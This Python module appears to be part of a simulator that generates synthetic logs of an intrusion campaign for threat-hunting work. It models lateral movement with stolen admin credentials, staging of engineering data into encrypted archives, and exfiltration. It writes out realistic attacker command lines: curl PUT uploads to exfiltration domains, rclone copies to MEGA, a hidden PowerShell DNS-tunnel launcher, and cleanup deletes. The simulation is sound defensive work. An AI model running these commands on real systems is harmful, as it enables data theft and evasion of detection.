"""Lateral movement, staging and exfiltration: the part of the campaign on other hosts."""

from __future__ import annotations

import base64

from spearhunt.simulate.clock import US
from spearhunt.simulate.context import HostState
from spearhunt.simulate.endpoint import SYSTEM_ACCOUNT, Account, Proc, user_account
from spearhunt.simulate.images import IMAGES, Image, make_image
from spearhunt.simulate.plan import EXFIL_DOMAINS, TUNNEL_DOMAINS, ExfilFlow, Hop, PlanWriter
from spearhunt.simulate.world import NETBIOS

TECHNIQUE = {"psexec": "T1021.002", "wmi": "T1047", "rdp": "T1021.001"}
STAGE_DIR = "C:\\ProgramData\\SoftwareDistribution\\cache\\"
TOOL_DIR = "C:\\ProgramData\\SoftwareDistribution\\Tools\\"
VOLUME = 500 * 1024 * 1024
MEGA_API = "g.api.mega.co.nz"


class LateralPlanner:
    """Moves from the victim's workstation with a stolen admin account, stages, exfiltrates."""

    def __init__(self, planner: PlanWriter, actor: Proc) -> None:
        assert planner.c is not None
        self.p = planner
        self.sim = planner.sim
        self.c = planner.c
        self.rng = planner.rng
        self.src = self.sim.hosts[self.c.victim_host.name]
        self.actor = actor
        self.technique = planner.variant.lateral
        self.admin = user_account(
            self.c.admin, "0x0", "00000000-0000-0000-0000-000000000000", admin=True
        )
        self.rdp: dict[tuple[str, int], Proc] = {}
        self.volumes: list[tuple[str, int]] = []
        self.password = f"{self.rng.getrandbits(40):010x}"
        self.tools_dropped: set[str] = set()

    # ---- lateral movement primitives ---------------------------------------------------
    def remote_exec(
        self,
        target: HostState,
        t: int,
        image_key: str,
        cmdline: str,
        stage: str,
        technique: str,
        note: str,
        image: Image | None = None,
    ) -> tuple[Proc, int]:
        """Run ``cmdline`` on ``target`` through the variant's lateral technique."""
        parent, account, t = self._channel(target, t)
        img = image if image is not None else IMAGES[image_key]
        with self.p.step(target, stage, technique, self.c.admin.admin_sam or "", note):
            proc, _ = target.log.process(
                t,
                img,
                cmdline,
                parent,
                account,
                cwd="C:\\Windows\\system32\\",
                integrity="High",
            )
        return proc, t + self.p.secs(1, 5)

    def _first_hop(self, target: HostState, t: int) -> None:
        if not any(h.host == target.host.name for h in self.c.hops):
            self.c.hops.append(
                Hop(target.host.name, self.src.host.name, self.technique, t, self.admin.name)
            )

    def _channel(self, target: HostState, t: int) -> tuple[Proc, Account, int]:
        """Set up (or reuse) the way in; return the parent of remote commands and when."""
        sim, p, src = self.sim, self.p, self.src
        ip, tip = src.host.ip, target.host.ip
        vic = self.c.victim.sam
        remote = Account(
            self.admin.name,
            NETBIOS,
            self.admin.sid,
            sim.logon_id(self.rng),
            sim.logon_guid(self.rng),
        )
        tech = TECHNIQUE[self.technique]
        name = target.host.name
        if self.technique == "rdp":
            key = (name, sim.clock.day_of(t))
            if key in self.rdp:
                shell = self.rdp[key]
                return shell, shell.account, t
        src_log, tgt_log = src.log, target.log
        net = sim.net
        sport = sim.port()  # the connection's source port, in every log that shows it
        if self.technique == "psexec":
            with p.step(src, "lateral_movement", tech, vic, f"PsExec to {name}"):
                if "psexec" not in self.tools_dropped:
                    src_log.file_create(t - 20 * US, self.actor, f"{TOOL_DIR}PsExec64.exe")
                    self.tools_dropped.add("psexec")
                tool, _ = src_log.process(
                    t,
                    _at(IMAGES["psexec"], f"{TOOL_DIR}PsExec64.exe"),
                    f"{TOOL_DIR}PsExec64.exe -accepteula \\\\{name} -u {NETBIOS}\\{self.admin.name} "
                    "-p ******** -s -d cmd.exe",
                    self.actor,
                    self.actor.account,
                    cwd=TOOL_DIR,
                    integrity="High",
                )
                src_log.explicit_logon(
                    t + 100_000, self.actor.account, self.admin.name, NETBIOS, name, tool, tip
                )
                src_log.network(t + 200_000, tool, ip, sport, tip, 445, target.host.fqdn)
            t += 400_000
            with p.step(target, "lateral_movement", tech, self.admin.name, "PSEXESVC on target"):
                tgt_log.logon(
                    t,
                    remote,
                    3,
                    ip,
                    src.host.name.upper(),
                    elevated=True,
                    kerberos=False,
                    port=sport,
                )
                tgt_log.share_access(t + 40_000, remote, ip, "ADMIN$")
                tgt_log.share_access(t + 60_000, remote, ip, "ADMIN$", "PSEXESVC.exe", "0x2")
                sysproc = Proc(target.services.guid, 4, IMAGES["system"], "", SYSTEM_ACCOUNT)
                tgt_log.file_create(t + 80_000, sysproc, "C:\\Windows\\PSEXESVC.exe")
                tgt_log.service_installed(t + 120_000, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe")
                svc, _ = tgt_log.process(
                    t + 150_000,
                    IMAGES["psexesvc"],
                    "C:\\Windows\\PSEXESVC.exe",
                    target.services,
                    SYSTEM_ACCOUNT,
                    integrity="System",
                )
                tgt_log.pipe(t + 170_000, svc, "\\PSEXESVC")
                tgt_log.pipe(
                    t + 190_000,
                    svc,
                    f"\\PSEXESVC-{src.host.name.upper()}-{self.rng.randrange(1000, 9999)}-stdin",
                )
            if net is not None:
                uid = net.conn(
                    t - 300_000,
                    ip,
                    tip,
                    445,
                    service="smb,ntlm",
                    duration=30.0,
                    orig_bytes=480_000,
                    resp_bytes=22_000,
                    sport=sport,
                )
                p.net(
                    "lateral_movement",
                    tech,
                    src.host,
                    [("conn", uid, t - 300_000)],
                    f"SMB to {name}",
                )
            self._first_hop(target, t)
            return svc, SYSTEM_ACCOUNT, t + 500_000
        if self.technique == "wmi":
            with p.step(src, "lateral_movement", tech, vic, f"WMIC to {name}"):
                tool, _ = src_log.process(
                    t,
                    IMAGES["wmic"],
                    f"wmic /node:{name} /user:{NETBIOS}\\{self.admin.name} /password:******** "
                    'process call create "cmd.exe /c ..."',
                    self.actor,
                    self.actor.account,
                    integrity="High",
                )
                src_log.explicit_logon(
                    t + 80_000, self.actor.account, self.admin.name, NETBIOS, name, tool, tip
                )
                src_log.network(t + 150_000, tool, ip, sport, tip, 135, target.host.fqdn)
            t += 300_000
            with p.step(target, "lateral_movement", tech, self.admin.name, "WMI logon on target"):
                # The logon comes over the DCOM connection (port 49667), not the mapper's.
                dcom_port = sim.port()
                tgt_log.logon(
                    t,
                    remote,
                    3,
                    ip,
                    src.host.name.upper(),
                    elevated=True,
                    kerberos=False,
                    port=dcom_port,
                )
            if net is not None:
                u1 = net.conn(
                    t - 200_000,
                    ip,
                    tip,
                    135,
                    service="dce_rpc",
                    duration=0.05,
                    orig_bytes=1_400,
                    resp_bytes=600,
                    sport=sport,
                )
                u2 = net.conn(
                    t - 150_000,
                    ip,
                    tip,
                    49_667,
                    service="dce_rpc",
                    duration=1.2,
                    orig_bytes=6_200,
                    resp_bytes=3_100,
                    sport=dcom_port,
                )
                p.net(
                    "lateral_movement",
                    tech,
                    src.host,
                    [("conn", u1, t - 200_000), ("conn", u2, t - 150_000)],
                    f"DCOM to {name}",
                )
            self._first_hop(target, t)
            wmiprvse = Proc(
                target.wmiprvse.guid,
                target.wmiprvse.pid,
                target.wmiprvse.image,
                target.wmiprvse.cmdline,
                target.wmiprvse.account,
                "System",
            )
            # The command runs as the admin, under WmiPrvSE.exe.
            return wmiprvse, remote, t + 600_000
        # RDP: one interactive session per target and day.
        with p.step(src, "lateral_movement", tech, vic, f"RDP to {name}"):
            src_log.process(
                t - 30 * US,
                IMAGES["cmd"],
                f"cmd.exe /c cmdkey /generic:TERMSRV/{name} /user:{NETBIOS}\\{self.admin.name} "
                "/pass:********",
                self.actor,
                self.actor.account,
                integrity="High",
            )
            tool, _ = src_log.process(
                t,
                IMAGES["mstsc"],
                f"mstsc.exe /v:{name}",
                self.actor,
                self.actor.account,
                integrity="High",
            )
            src_log.explicit_logon(
                t + 300_000, self.actor.account, self.admin.name, NETBIOS, name, tool, tip
            )
            src_log.network(t + 200_000, tool, ip, sport, tip, 3389, target.host.fqdn)
        t += 2 * US
        with p.step(target, "lateral_movement", tech, self.admin.name, "RDP logon on target"):
            tgt_log.rdp_authenticated(t, self.admin.name, NETBIOS, ip)
            tgt_log.logon(
                t + 2 * US, remote, 10, ip, src.host.name.upper(), elevated=True, port=sport
            )
            init, _ = tgt_log.process(
                t + 4 * US,
                IMAGES["userinit"],
                "C:\\Windows\\system32\\userinit.exe",
                target.winlogon,
                remote,
                integrity="High",
            )
            explorer, _ = tgt_log.process(
                t + 5 * US,
                IMAGES["explorer"],
                "C:\\Windows\\Explorer.EXE",
                init,
                remote,
                integrity="High",
            )
            tgt_log.process(t + 6 * US, IMAGES["rdpclip"], "rdpclip", target.svchost, remote)
        if net is not None:
            uid = net.conn(
                t - 1 * US,
                ip,
                tip,
                3389,
                service="ssl",
                duration=2.5 * 3600,
                orig_bytes=3_100_000,
                resp_bytes=41_000_000,
                sport=sport,
            )
            p.net("lateral_movement", tech, src.host, [("conn", uid, t - 1 * US)], f"RDP to {name}")
        self._first_hop(target, t + 2 * US)
        self.rdp[(name, sim.clock.day_of(t))] = explorer
        return explorer, remote, t + 30 * US

    # ---- the campaign on other hosts ---------------------------------------------------
    def move_all(self, t: int) -> None:
        """Reach the file server, then an engineering workstation, and look around."""
        sim = self.sim
        fs = sim.hosts[self.c.staging_host.name]
        _, t = self.remote_exec(
            fs,
            t,
            "cmd",
            "cmd.exe /c whoami & ipconfig /all & dir D:\\Shares\\Engineering\\Programs",
            "discovery",
            "T1083",
            "survey of the file server",
        )
        eng = [h for h in sim.workstations if h.role == "ws-eng" and h != self.c.victim_host]
        if not eng:
            return
        target = sim.hosts[eng[int(self.rng.random() * len(eng))].name]
        t += self.p.secs(10 * 60, 40 * 60)
        owner = target.host.owner or "engineer"
        cmd = (
            f"robocopy C:\\Users\\{owner}\\Documents \\\\{fs.host.name}\\C$\\ProgramData\\"
            f"SoftwareDistribution\\cache\\{target.host.name} *.SLDPRT *.SLDASM *.step *.pdf "
            "*.docx *.xlsx /S /R:0 /W:0 /NP /NFL /NDL"
        )
        _, t2 = self.remote_exec(
            target,
            t,
            "robocopy",
            cmd,
            "collection",
            "T1005",
            "engineering documents copied to the staging folder",
        )
        # The copy lands on the file server as an SMB session from the engineering workstation.
        acct = Account(
            self.admin.name,
            NETBIOS,
            self.admin.sid,
            sim.logon_id(self.rng),
            sim.logon_guid(self.rng),
        )
        sport = sim.port()
        with self.p.step(fs, "collection", "T1039", self.admin.name, "copy into C$ staging"):
            fs.log.logon(
                t2, acct, 3, target.host.ip, target.host.name.upper(), elevated=True, port=sport
            )
            fs.log.share_access(t2 + 50_000, acct, target.host.ip, "C$")
            for i in range(3):
                fs.log.share_access(
                    t2 + 90_000 + i * 200_000,
                    acct,
                    target.host.ip,
                    "C$",
                    f"ProgramData\\SoftwareDistribution\\cache\\{target.host.name}\\"
                    f"{['HX40_housing_rev7.SLDASM', 'seeker_head_thermal.pdf', 'test_matrix_Q2.xlsx'][i]}",
                    "0x2",
                )
        if (net := sim.net) is not None:
            size = 180_000_000 + int(net.rng.random() * 300_000_000)
            uid = net.conn(
                t2,
                target.host.ip,
                fs.host.ip,
                445,
                service="smb",
                duration=size / 9e7,
                orig_bytes=size,
                resp_bytes=size // 150,
                sport=sport,
            )
            self.p.net("collection", "T1039", target.host, [("conn", uid, t2)], "copy to staging")

    def stage(self, t: int) -> None:
        """Password-protected archive volumes in the staging folder of the file server."""
        sim, rng = self.sim, self.rng
        fs = sim.hosts[self.c.staging_host.name]
        exfil = self.p.variant.exfil
        total = int(
            (5e5 + rng.random() * 5e5) if exfil == "dns" else (1.1e9 + rng.random() * 1.6e9)
        )
        roll = rng.random()
        tool = "7z" if roll < 0.5 else ("rar" if roll < 0.85 else "makecab")
        self.c.archive_tool = tool
        n = max(1, -(-total // VOLUME))
        sizes = [VOLUME] * (n - 1) + [total - VOLUME * (n - 1)]
        prog = "Programs\\HX-40" if rng.random() < 0.5 else "Programs\\Sentinel-R"
        src_dirs = f"D:\\Shares\\Engineering\\{prog} {STAGE_DIR}ws-eng-*"
        if tool == "7z":
            exe = f"{STAGE_DIR}7za.exe"
            img = _at(
                make_image(
                    "C:\\7za.exe",
                    "7za.exe",
                    "7-Zip Standalone Console",
                    "7-Zip",
                    "Igor Pavlov",
                    "23.01",
                ),
                exe,
            )
            names = (
                [f"{STAGE_DIR}upd.7z.{i + 1:03d}" for i in range(n)]
                if n > 1
                else [f"{STAGE_DIR}upd.7z"]
            )
            cmd = (
                f"{exe} a -t7z -mx9 -mhe=on {'-v500m ' if n > 1 else ''}-p{self.password} "
                f"{STAGE_DIR}upd.7z {src_dirs}"
            )
        elif tool == "rar":
            exe = f"{STAGE_DIR}rar.exe"
            img = _at(
                make_image(
                    "C:\\rar.exe",
                    "Rar.exe",
                    "Command line RAR",
                    "WinRAR",
                    "Alexander Roshal",
                    "7.00.0",
                ),
                exe,
            )
            names = (
                [f"{STAGE_DIR}upd.part{i + 1}.rar" for i in range(n)]
                if n > 1
                else [f"{STAGE_DIR}upd.rar"]
            )
            cmd = (
                f"{exe} a -m5 -r {'-v500m ' if n > 1 else ''}-hp{self.password} "
                f"{STAGE_DIR}upd.rar {src_dirs}"
            )
        else:
            exe = "C:\\Windows\\System32\\makecab.exe"
            img = IMAGES["makecab"]
            names = [f"{STAGE_DIR}disk{i + 1}.cab" for i in range(n)]
            cmd = f"makecab.exe /F {STAGE_DIR}upd.ddf"
        if tool != "makecab":
            self._drop(fs, t - 60 * US, exe)
        else:
            with self.p.step(
                fs, "collection", "T1560.001", self.admin.name, "makecab directive file"
            ):
                fs.log.file_create(t - 30 * US, fs.services, f"{STAGE_DIR}upd.ddf")
        proc, t = self.remote_exec(
            fs,
            t,
            "",
            cmd,
            "collection",
            "T1560.001",
            f"{tool} archive of engineering data",
            image=img,
        )
        with self.p.step(fs, "collection", "T1074.001", self.admin.name, "archive volumes written"):
            for i, name in enumerate(names):
                t += int(sizes[i] / 2.5e7 * US) + self.p.secs(1, 5)
                fs.log.file_create(t, proc, name)
        self.volumes = list(zip(names, sizes, strict=True))
        self.c.extra["archive"] = {
            "tool": tool,
            "volumes": [n for n, _ in self.volumes],
            "bytes": total,
            "host": fs.host.name,
        }

    def _drop(self, target: HostState, t: int, path: str) -> None:
        """A tool copied over the admin share (C$) from the victim's workstation."""
        sim = self.sim
        ip = self.src.host.ip
        acct = Account(
            self.admin.name,
            NETBIOS,
            self.admin.sid,
            sim.logon_id(self.rng),
            sim.logon_guid(self.rng),
        )
        rel = path.split(":\\", 1)[1]
        sport = sim.port()
        with self.p.step(
            target, "lateral_movement", "T1570", self.admin.name, f"tool copied: {rel}"
        ):
            target.log.logon(
                t,
                acct,
                3,
                ip,
                self.src.host.name.upper(),
                elevated=True,
                kerberos=False,
                port=sport,
            )
            target.log.share_access(t + 30_000, acct, ip, "C$")
            target.log.share_access(t + 60_000, acct, ip, "C$", rel, "0x2")
            target.log.file_create(
                t + 90_000,
                Proc(target.services.guid, 4, IMAGES["system"], "", SYSTEM_ACCOUNT),
                path,
            )
        if sim.net is not None:
            uid = sim.net.conn(
                t,
                ip,
                target.host.ip,
                445,
                service="smb",
                duration=0.8,
                orig_bytes=2_400_000,
                resp_bytes=9_000,
                sport=sport,
            )
            self.p.net(
                "lateral_movement", "T1570", self.src.host, [("conn", uid, t)], "tool transfer"
            )

    def exfiltrate(self, t: int, *, part: int, parts: int) -> None:
        """Send this night's share of the archive out by the variant's channel."""
        mine = self.volumes[part::parts]
        if not mine:
            return
        kind = self.p.variant.exfil
        if kind == "https":
            self._exfil_https(t, mine)
        elif kind == "cloud":
            self._exfil_cloud(t, mine, first=part == 0)
        else:
            self._exfil_dns(t, mine, first=part == 0)

    def _flow(self, domain: str, ip: str, size: int, start: int, end: int, channel: str) -> None:
        for flow in self.c.exfil:
            if flow.domain == domain and flow.channel == channel:
                flow.bytes += size
                flow.first_seen = min(flow.first_seen, start)
                flow.last_seen = max(flow.last_seen, end)
                return
        self.c.exfil.append(
            ExfilFlow(self.c.staging_host.name, domain, ip, size, start, end, channel)
        )

    def _exfil_https(self, t: int, volumes: list[tuple[str, int]]) -> None:
        sim, rng = self.sim, self.rng
        fs = sim.hosts[self.c.staging_host.name]
        domain = self.c.extra.setdefault(
            "exfil_domain", EXFIL_DOMAINS[int(rng.random() * len(EXFIL_DOMAINS))]
        )
        ip = sim.ext.ip(domain)
        for name, size in volumes:
            cmd = (
                f"C:\\Windows\\System32\\curl.exe -s -k -X PUT -T {name} "
                f"https://{domain}/api/v2/objects/{rng.getrandbits(48):012x}"
            )
            proc, t = self.remote_exec(
                fs, t, "curl", cmd, "exfiltration", "T1048.002", "curl upload of an archive volume"
            )
            rate = 8e5 + rng.random() * 1.7e6  # throttled: quiet, not fast
            dur = size / rate
            sport = sim.port()
            with self.p.step(fs, "exfiltration", "T1048.002", self.admin.name, "upload connection"):
                fs.log.dns(t, proc, domain, f"::ffff:{ip};")
                fs.log.network(t + 40_000, proc, fs.host.ip, sport, ip, 443, domain)
            sent = int(size * 1.013)
            if (net := sim.net) is not None:
                ud = net.dns(t, fs.host.ip, sim.dc_ip, domain, [ip], ttl=60)
                uc = net.tls(
                    t + 40_000,
                    fs.host.ip,
                    ip,
                    domain,
                    orig_bytes=sent,
                    resp_bytes=4_200,
                    duration=dur,
                    sport=sport,
                )
                self.p.net(
                    "exfiltration",
                    "T1048.002",
                    fs.host,
                    [("dns", ud, t), ("conn", uc, t + 40_000), ("ssl", uc, t + 40_000)],
                    "archive upload",
                )
            end = t + int(dur * US)
            self._flow(domain, ip, sent, t + 40_000, end, "https")
            t = end + self.p.secs(20, 300)

    def _exfil_cloud(self, t: int, volumes: list[tuple[str, int]], *, first: bool) -> None:
        sim, rng = self.sim, self.rng
        fs = sim.hosts[self.c.staging_host.name]
        exe = f"{TOOL_DIR}rclone.exe"
        conf = f"{TOOL_DIR}rc.conf"
        img = _at(
            make_image(
                "C:\\rclone.exe",
                "rclone.exe",
                "Rsync for cloud storage",
                "Rclone",
                "https://rclone.org",
                "1.66.0",
            ),
            exe,
        )
        if first:
            self._drop(fs, t - 120 * US, exe)
            self._drop(fs, t - 100 * US, conf)
        includes = " ".join(f'--include "{n.rsplit(chr(92), 1)[1]}"' for n, _ in volumes)
        cmd = (
            f"{exe} copy {STAGE_DIR} mega:bkp/{rng.getrandbits(24):06x} --config {conf} "
            f"--no-check-certificate --transfers 4 -q {includes}"
        )
        proc, t = self.remote_exec(
            fs, t, "", cmd, "exfiltration", "T1567.002", "rclone to cloud storage", image=img
        )
        api_ip = sim.ext.ip(MEGA_API)
        sport = sim.port()
        with self.p.step(fs, "exfiltration", "T1567.002", self.admin.name, "rclone API session"):
            fs.log.dns(t, proc, MEGA_API, f"::ffff:{api_ip};")
            fs.log.network(t + 30_000, proc, fs.host.ip, sport, api_ip, 443, MEGA_API)
        net = sim.net
        records: list[tuple[str, str | None, int]] = []
        if net is not None:
            records.append(
                ("dns", net.dns(t, fs.host.ip, sim.dc_ip, MEGA_API, [api_ip], ttl=300), t)
            )
            uid = net.tls(
                t + 30_000,
                fs.host.ip,
                api_ip,
                MEGA_API,
                orig_bytes=9_000,
                resp_bytes=14_000,
                duration=4.0,
                subject="CN=*.api.mega.co.nz",
                sport=sport,
            )
            records += [("conn", uid, t + 30_000), ("ssl", uid, t + 30_000)]
        t += 6 * US
        for _name, size in volumes:
            storage = (
                f"gfs{rng.randrange(200, 300)}n{rng.randrange(10, 200):03d}.userstorage.mega.co.nz"
            )
            ip = sim.ext.ip(storage)
            rate = 1e6 + rng.random() * 2e6
            dur = size / rate
            sport = sim.port()
            with self.p.step(
                fs, "exfiltration", "T1567.002", self.admin.name, "upload to storage node"
            ):
                fs.log.dns(t, proc, storage, f"::ffff:{ip};")
                fs.log.network(t + 30_000, proc, fs.host.ip, sport, ip, 443, storage)
            sent = int(size * 1.004)
            if net is not None:
                records.append(
                    ("dns", net.dns(t, fs.host.ip, sim.dc_ip, storage, [ip], ttl=300), t)
                )
                uid = net.tls(
                    t + 30_000,
                    fs.host.ip,
                    ip,
                    storage,
                    orig_bytes=sent,
                    resp_bytes=6_000,
                    duration=dur,
                    subject="CN=*.userstorage.mega.co.nz",
                    sport=sport,
                )
                records += [("conn", uid, t + 30_000), ("ssl", uid, t + 30_000)]
            self._flow(storage, ip, sent, t + 30_000, t + int(dur * US), "cloud")
            t += int(dur * US / 4) + self.p.secs(2, 20)  # four transfers in parallel
        if net is not None:
            self.p.net("exfiltration", "T1567.002", fs.host, records, "rclone upload")

    def _exfil_dns(self, t: int, volumes: list[tuple[str, int]], *, first: bool) -> None:
        sim, rng = self.sim, self.rng
        fs = sim.hosts[self.c.staging_host.name]
        domain = self.c.extra.setdefault(
            "tunnel_domain", TUNNEL_DOMAINS[int(rng.random() * len(TUNNEL_DOMAINS))]
        )
        ns_ip = sim.ext.ip(f"ns1.{domain}")
        script = f"{STAGE_DIR}dnsq.ps1"
        if first:
            self._drop(fs, t - 60 * US, script)
        cmd = f"powershell.exe -NoP -W Hidden -Exec Bypass -File {script}"
        proc, t = self.remote_exec(
            fs, t, "powershell", cmd, "exfiltration", "T1048.003", "DNS tunnelling script"
        )
        session = f"{rng.getrandbits(20):05x}"
        records: list[tuple[str, str | None, int]] = []
        net = sim.net
        with self.p.step(fs, "exfiltration", "T1048.003", self.admin.name, "DNS tunnel queries"):
            for _name, size in volumes:
                per_query = 70
                n = -(-size // per_query)
                start = t
                for i in range(n):
                    raw = rng.getrandbits(per_query * 8).to_bytes(per_query, "little")
                    enc = base64.b32encode(raw).decode().lower().rstrip("=")
                    q = f"{enc[:56]}.{enc[56:]}.{i:x}.{session}.{domain}"
                    fs.log.dns(t, proc, q, "type:  16 ok")
                    if net is not None:
                        records.append(
                            (
                                "dns",
                                net.dns(
                                    t, fs.host.ip, sim.dc_ip, q, ["TXT 2 ok"], qtype="TXT", ttl=0
                                ),
                                t,
                            )
                        )
                    t += int((0.12 + rng.random() * 0.3) * US)
                self._flow(domain, ns_ip, n * per_query, start, t, "dns")
        if net is not None:
            self.p.net("exfiltration", "T1048.003", fs.host, records, "DNS tunnel")

    def cleanup(self) -> None:
        """Delete the staging folder after the last upload."""
        if not self.c.exfil:
            return
        fs = self.sim.hosts[self.c.staging_host.name]
        t = max(f.last_seen for f in self.c.exfil) + self.p.secs(120, 900)
        self.remote_exec(
            fs,
            t,
            "cmd",
            f"cmd.exe /c del /f /q /s {STAGE_DIR}* & rmdir /s /q {STAGE_DIR}",
            "stealth",
            "T1070.004",
            "staging folder removed",
        )


def _at(image: Image, path: str) -> Image:
    """The same executable (same hashes) stored at another path."""
    from dataclasses import replace

    return replace(image, path=path)
